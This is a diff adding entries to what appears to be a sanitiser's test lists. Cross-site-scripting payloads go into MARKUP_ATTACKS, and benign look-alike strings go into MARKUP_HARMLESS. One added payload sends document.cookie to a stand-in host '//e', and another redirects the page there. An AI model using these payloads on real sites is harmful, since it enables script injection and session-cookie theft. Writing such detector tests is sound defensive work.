@@ -130,6 +130,15 @@ export const MARKUP_ATTACKS: readonly string[] = [
   '<p/onclick=alert(1)>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<textarea autofocus onfocus=alert(1)>',
+  "';self.alert?.(1)//",
+  "\");new Image().src='//e/?'+document.cookie;//",
+  "'-[].constructor.constructor(`alert(1)`)()-'",
+  "'};(alert)(4);{'",
+  "${window['alert'](1)}",
+  '${document.location.href=`//e`}',
+  '${throw onerror=alert,34}',
+  'x onload=(alert)(82)',
+  '<!-- <svg onload=x()> -->',
 ];
 
 export const MARKUP_HARMLESS: readonly string[] = [
@@ -250,4 +259,11 @@ export const MARKUP_HARMLESS: readonly string[] = [
   '<hr>',
   '</b>',
   '<世界>',
+  'onrow=1&once=29',
+  'loaded via flags (`--import` or `--require`).',
+  'each parameter as `;name=value`.',
+  'data: html',
+  '`${document.title} of ${window.location.host}`',
+  'onmessage = (e) => post(e);',
+  "x = 'a'; self.name = b",
 ];
